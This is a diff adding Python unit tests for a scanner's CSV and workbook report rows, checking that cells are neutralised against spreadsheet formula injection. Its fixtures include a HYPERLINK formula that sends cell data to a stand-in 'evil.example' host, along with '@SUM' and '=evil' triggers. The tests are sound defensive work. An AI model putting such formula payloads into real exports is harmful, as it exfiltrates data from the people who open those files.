@@ -13,6 +13,7 @@ import io
 import json
 import re
 import unicodedata
+from dataclasses import replace
 from datetime import date
 from html.parser import HTMLParser
 
@@ -25,12 +26,25 @@ import reports.json
 import reports.table
 import reports.xlsx
 from agents.inventory import Hardware, Host, Inventory, OsInfo
+from reports.common import (
+    FINDING_HEADERS,
+    NOT_COSTED,
+    _action_cost_cell,
+    _extended_by_finding,
+    _extended_cells,
+    _host_finding_rows,
+    _listed_finding,
+    _SharedFindingCells,
+    finding_rows,
+    neutralise,
+)
 from scanner.judge.match import HostResult
 from scanner.model import Finding, MatchDetail, Status
+from scanner.plan.actions import Action
 from scanner.plan.config import EntitlementPrice, ReportConfig
 from scanner.plan.risk_register import Register, RiskException
 from scanner.report.build import build_report
-from scanner.report.model import EstateReport
+from scanner.report.model import EstateReport, FindingRow
 from scanner.store.sqlite import HostStatus
 
 HOSTILE = [
@@ -347,3 +361,66 @@ def test_report_to_a_terminal_carries_no_control_character(
     assert shown.count("\r\n") == rendered.count("\r\n")
     unsafe = {ch for ch in shown.replace("\r\n", "\n") if ch not in "\n\t" and not ch.isprintable() and ch != " "}
     assert {ch for ch in unsafe if unicodedata.category(ch)[0] == "C"} == set()
+
+
+# -- reports.common.finding_rows, piece by piece (the CSV's and the workbook's finding rows) -------
+
+
+def _inert(value: object) -> bool:
+    """Already neutralised: neutralising it again changes nothing, and it starts with no trigger."""
+    return not isinstance(value, str) or (neutralise(value) == value and not value.startswith(tuple("=+-@\t\r")))
+
+
+def test_finding_rows_are_the_devices_rows_and_every_cell_is_inert(report: EstateReport) -> None:
+    shared = _SharedFindingCells(neutralise)
+    pieced = [row for s in report.sites for h in s.hosts for row in _host_finding_rows(h, neutralise(s.site), shared)]
+    assert pieced == list(finding_rows(report, neutralise))
+    assert len(pieced) >= 3 * len(HOSTILE)  # OS, eol application, extended application per device
+    assert {len(row) for row in pieced} == {len(FINDING_HEADERS)}
+    assert all(_inert(v) for row in pieced for v in row)
+    names = {row[FINDING_HEADERS.index("name")] for row in pieced}
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in names and "'@SUM(1+1)" in names
+    assert "NUL\x00byte" in names  # neutralise defuses formulas; control characters are each writer's job
+    unneutralised = list(finding_rows(report))
+    assert {row[FINDING_HEADERS.index("name")] for row in unneutralised} >= set(HOSTILE)
+
+
+def test_shared_cells_are_built_once_and_neutralised(report: EstateReport) -> None:
+    shared = _SharedFindingCells(neutralise)
+    r = next(r for h in report.all_hosts() for r in h.rows if r.finding.detail.rule.startswith("=HYPERLINK"))
+    f = r.finding
+    assert shared.release(f) is shared.release(f) and shared.score(r) is shared.score(r)
+    assert shared.rule(f) is shared.rule(f)
+    rule, evidence, dataset = shared.rule(f)
+    assert rule == neutralise(f.detail.rule) and dataset == neutralise(f.detail.dataset_version)
+    assert evidence == neutralise("; ".join(f"{k}={v}" for k, v in f.detail.evidence.items()))
+    assert all(_inert(v) for v in shared.release(f) + shared.score(r) + shared.rule(f))
+    assert shared.release(f)[0] == f.kind and shared.release(f)[1] == neutralise(f.name)
+
+
+def test_extended_cells_put_the_yearly_figure_on_the_first_covered_finding_only(report: EstateReport) -> None:
+    hosts = [h for h in report.all_hosts() if h.extended]
+    assert hosts
+    for h in hosts:
+        priced = _extended_by_finding(h)
+        for x in h.extended:
+            first = _extended_cells(priced[id(x.finding)], x.finding, neutralise)
+            assert first == [neutralise(f"{x.entitlement} ({x.basis}; {x.source})"), round(x.yearly, 2)]
+            assert _inert(first[0])
+            for other in x.covers:
+                if other is not x.finding:
+                    assert _extended_cells(priced[id(other)], other, neutralise)[1] is None
+        uncovered = [r.finding for r in h.rows if id(r.finding) not in priced]
+        assert all(_extended_cells(None, f, neutralise) == ["", None] for f in uncovered)
+
+
+def test_which_findings_are_listed_and_the_action_cost_cell(report: EstateReport) -> None:
+    rows = [r for h in report.all_hosts() for r in h.rows]
+    assert all(_listed_finding(r) for r in rows if r.finding.kind == "os" or r.finding.actionable)
+    quiet = FindingRow(replace(rows[1].finding, status=Status.SUPPORTED, kind="software"))
+    assert not _listed_finding(quiet)
+    assert _listed_finding(replace(quiet, exception=report.register[0].exception))
+    h = report.all_hosts()[0]
+    assert _action_cost_cell(replace(h, action=Action("none", "no action", "", None))) is None
+    assert _action_cost_cell(replace(h, action=Action("replace-device", "=evil", "", None))) == NOT_COSTED
+    assert _action_cost_cell(replace(h, action=Action("replace-device", "replace", "", 850.004))) == 850.0
